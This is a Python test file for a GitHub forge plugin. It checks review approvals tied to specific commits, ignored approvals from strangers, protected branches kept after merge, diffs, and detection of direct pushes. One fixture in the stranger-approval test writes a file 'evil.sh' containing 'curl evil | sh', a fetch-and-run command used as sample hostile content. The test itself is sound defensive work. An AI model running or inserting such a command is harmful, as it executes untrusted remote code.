"""Whose review of which head counts on GitHub, and the branches that are never deleted."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest

from ennio.model.clock import ManualClock
from ennio.model.errors import Conflict
from ennio.model.pulls import Opinion, ReviewState
from ennio.plugins.forge.github.forge import GitHubForge
from ennio.plugins.forge.interface import Watch
from tests.github.standin.hub import Hub


def _opened(hub: Hub, forge: GitHubForge, branch: str = "fix") -> tuple[int, str]:
    head = hub.push(branch, {f"{branch.replace('/', '-')}.txt": "1\n"})
    return forge.open(branch, "main", "t", "").number, head


def test_an_approval_is_told_with_the_head_it_is_of(hub: Hub, forge: GitHubForge) -> None:
    number, head = _opened(hub, forge)
    hub.review(number, "ada", "APPROVED")
    hub.review(number, "bob", "CHANGES_REQUESTED", "no")
    opinions = (
        Opinion("ada", ReviewState.APPROVED, head),
        Opinion("bob", ReviewState.CHANGES_REQUESTED, head),
    )
    assert forge.look(number).opinions == opinions
    hub.push("fix", {"b.txt": "2\n"})
    pull = forge.look(number)
    assert (pull.opinions, pull.approved_head) == (opinions, False)
    assert [one.author for one in pull.stale + pull.answered] == ["ada", "bob"]


def test_the_approval_of_a_stranger_is_none(hub: Hub, forge: GitHubForge) -> None:
    number, _ = _opened(hub, forge)
    hub.review(number, "stranger", "APPROVED", stranger=True)
    pull = forge.look(number)
    assert (pull.review, pull.opinions, pull.approved_head) == (ReviewState.NONE, (), False)
    hub.review(number, "ada", "APPROVED")
    assert forge.look(number).review is ReviewState.APPROVED


def test_a_strangers_approval_of_a_new_head_stands_for_nobody_elses(
    hub: Hub, forge: GitHubForge
) -> None:
    hub.required_approvals = 1
    number, _ = _opened(hub, forge)
    hub.review(number, "ada", "APPROVED")
    hub.push("fix", {"evil.sh": "curl evil | sh\n"})
    hub.review(number, "stranger", "APPROVED", stranger=True)
    pull = forge.look(number)
    assert (pull.review, pull.approved_head) == (ReviewState.APPROVED, False)


def test_an_approval_given_here_is_of_the_head_that_was_seen(hub: Hub, forge: GitHubForge) -> None:
    number, seen = _opened(hub, forge)
    head = hub.push("fix", {"b.txt": "2\n"})
    with pytest.raises(Conflict, match="look at it again"):
        forge.review(number, "person", ReviewState.APPROVED, "", head=seen)
    pull = forge.review(number, "person", ReviewState.APPROVED, "", head=head[:7])
    assert pull.opinions == (Opinion(hub.login, ReviewState.APPROVED, head, yours=True),)


def test_a_protected_branch_stays_after_its_merge(
    hub: Hub, make: Callable[..., GitHubForge]
) -> None:
    forge = make(delete_branch=True)
    forge._project = replace(forge._project, protected_branches=("release/*",))
    number, head = _opened(hub, forge, "release/1")
    assert forge.merge(number, head).commit
    assert "release/1" in hub.heads()


def test_what_changes_is_told_with_renames_and_without_what_github_leaves_out(
    hub: Hub, forge: GitHubForge
) -> None:
    hub.push("main", {"old.txt": "".join(f"{n}\n" for n in range(30))})
    head = hub.push(
        "fix",
        {
            "blob.bin": "\0\1\2",
            "app.py": "changed\n",
            "new.txt": "".join(f"{n}\n" for n in range(30)),
        },
    )
    number = forge.open("fix", "main", "t", "").number
    found = forge.files(number)
    assert found.head == head
    told = {one.path: (one.status, one.added is None, one.before) for one in found.files}
    assert told["blob.bin"] == ("added", True, None)
    assert told["app.py"][0] == "modified"
    text = forge.diff(number).text
    assert "diff --git a/app.py b/app.py\n--- a/app.py\n+++ b/app.py\n@@" in text
    assert "+changed\n" in text


def test_a_sessions_push_to_its_base_is_noticed(
    hub: Hub, forge: GitHubForge, clock: ManualClock, tmp_path: Path
) -> None:
    head = hub.push("fix", {"a.txt": "1\n"})
    place = tmp_path / "session"
    (place / ".git" / "logs").mkdir(parents=True)
    (place / ".git" / "logs" / "HEAD").write_text(
        f"{'0' * 40} {head} A <a@x> 1700000000 +0000\tcommit: mine\n"
    )

    def pushed(workspace: Path | None, number: int | None = None) -> str | None:
        clock.advance(1000)
        return forge.survey(
            [Watch("s-1", "fix", "main", number, workspace=str(workspace) if workspace else None)]
        )["s-1"].pushed

    assert pushed(place) is None
    number = forge.open("fix", "main", "t", "").number
    assert pushed(place, number) is None
    merged = hub.push("side", {"b.txt": "1\n"})
    hub.git("update-ref", "refs/heads/main", head)
    hub.pulls[number].state, hub.pulls[number].merge_commit = "MERGED", head
    assert pushed(place, number) == head
    assert forge.look(number).merged_by_push
    del hub.pulls[number]
    assert (pushed(place), pushed(None), merged != head) == (head, None, True)


def test_what_github_merged_is_no_push(hub: Hub, forge: GitHubForge, clock: ManualClock) -> None:
    number, head = _opened(hub, forge)
    forge.merge(number, head)
    clock.advance(1000)
    assert forge.survey([Watch("s-1", "fix", "main", number)])["s-1"].pushed is None
    assert forge.look(number).merged_by_push is False
